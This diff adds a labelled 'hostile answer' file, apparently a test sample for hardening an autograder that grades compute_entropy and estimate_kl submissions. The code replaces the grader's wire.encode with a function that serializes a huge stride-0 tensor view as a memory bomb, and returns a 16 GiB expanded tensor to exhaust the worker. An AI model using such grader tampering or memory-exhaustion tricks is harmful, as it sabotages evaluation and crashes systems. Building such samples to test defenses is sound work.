@@ -1,0 +1,25 @@
+# attack: hostile answer - torch.save bytes of a stride-0 view (one stored float, 2**33 elements),
+# which the grader used to torch.load; and a stride-0 view of 2**32 elements returned as is
+# functions: compute_entropy, estimate_kl
+# honest: 0
+import io
+
+import torch
+
+from autograder import wire  # the worker's own encoder: code in the worker may replace it
+
+
+def _saved_expanded_view(message) -> bytes:
+    buffer = io.BytesIO()
+    view = torch.ones(1, dtype=torch.float64).expand(2**33)  # 64 GiB if anyone materializes it
+    torch.save({**message, "output": view}, buffer)
+    return buffer.getvalue()
+
+
+def compute_entropy(logits):
+    wire.encode = _saved_expanded_view
+    return logits.sum(-1)
+
+
+def estimate_kl(new_logprobs, ref_logprobs, *args, **kwargs):
+    return torch.zeros(1).expand(2**32)  # the worker must copy 16 GiB to send it
